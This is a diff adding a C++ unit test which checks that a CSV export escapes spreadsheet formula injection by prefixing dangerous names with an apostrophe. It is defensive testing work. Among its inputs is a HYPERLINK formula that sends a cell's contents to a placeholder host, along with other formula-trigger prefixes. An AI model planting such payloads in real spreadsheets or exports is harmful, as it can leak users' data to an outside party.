@@ -312,6 +312,33 @@ Test(render_csv, quotes_by_rfc_4180) {
   cr_expect(rows.back() == (std::vector<std::string>{"", "", ""}));
 }
 
+Test(render_csv, names_are_no_formulas) {
+  view::View view;
+  view::Table table;
+  table.columns = {{"name", "", view::Unit::kText}, {"n", "", view::Unit::kCount}};
+  const char* formulas[] = {"=HYPERLINK(\"http://x/\"&A1)",
+                            "+1",
+                            "-[View draw]",
+                            "@SUM(A1)",
+                            "'=1",
+                            "\uff1d1",
+                            "\uff0b1",
+                            "\uff0d1",
+                            "\uff20x"};
+  const char* harmless[] = {"operator==", "a=b", "[main thread]", "\t=1", "5-3", "~Index", "\uff11"};
+  for (const char* name : formulas) table.add({}, {std::string_view(name), uint64_t(7)});
+  for (const char* name : harmless) table.add({}, {std::string_view(name), uint64_t(7)});
+  table.add({}, {std::string_view("x;=1"), uint64_t(7)});
+  view.tables.push_back(table);
+  const std::string text = csv(view);
+  const auto rows = test::read_csv(text);
+  size_t row = 1;
+  for (const char* name : formulas) cr_expect_eq(rows[row++][0], std::string("'") + name, "%s", name);
+  for (const char* name : harmless) cr_expect_eq(rows[row++][0], escape(name), "%s", name);
+  for (size_t i = 1; i < rows.size(); ++i) cr_expect_eq(rows[i][1], "7");  // numbers are as they were
+  cr_expect(text.ends_with("\n\"x;=1\",7\n"), "some spreadsheets divide at semicolons that are not quoted");
+}
+
 Test(render_json, is_json_with_the_named_fields) {
   const test::RandomProfile made = test::random_profile(6);
   for (const view::Kind& kind : view::kinds()) {
